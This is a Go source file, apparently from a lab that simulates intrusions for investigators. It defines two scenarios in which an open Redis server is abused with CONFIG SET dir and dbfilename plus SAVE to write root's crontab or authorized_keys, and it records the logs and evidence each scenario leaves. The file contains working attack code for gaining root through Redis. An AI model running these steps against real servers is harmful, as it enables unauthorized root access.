package lab

import (
	"context"
	"path"
)

// redisEntries come in through the shop's Redis, which is open to all.
var redisEntries = []Entry{
	{Name: "redis-cron", What: "CONFIG SET dir and SAVE write root's crontab through the open Redis", Cause: "redis-cron-write",
		Cites: []string{"rdb-header", "dir-still-there", "door"}, Logs: []string{"/var/log/cron", "/var/log/redis-6380.log"}, play: redisCron},
	{Name: "redis-key", What: "the same writes root's authorized_keys, and the intruder logs in with that key", Cause: "redis-key-write",
		Cites: []string{"rdb-header", "login", "door"}, Logs: loginLogs, Wiped: "ssh-unseen",
		play: redisKey},
}

// saveAs has Redis write a text into a file, among its own.
func (h *Host) saveAs(ctx context.Context, file, text string) error {
	_, err := h.intrude(ctx, [][]string{
		{"CONFIG", "SET", "rdbcompression", "no"},
		{"SET", cronKey, "\n\n" + text + "\n\n"},
		{"CONFIG", "SET", "dir", path.Dir(file)},
		{"CONFIG", "SET", "dbfilename", path.Base(file)},
		{"SAVE"},
	})
	return err
}

func redisCron(ctx context.Context, h *Host) error {
	return h.saveAs(ctx, path.Join(h.Config.Cron.Spool(), "root"), "* * * * * "+payload)
}

func redisKey(ctx context.Context, h *Host) error {
	own, err := h.must(ctx, h.World, "", "cat", "/root/.ssh/owner.pub", "/root/.ssh/intruder.pub")
	if err != nil {
		return err
	}
	if err := h.saveAs(ctx, keysFile, own); err != nil {
		return err
	}
	return h.enter(ctx, IntruderV4, "intruder", payload)
}
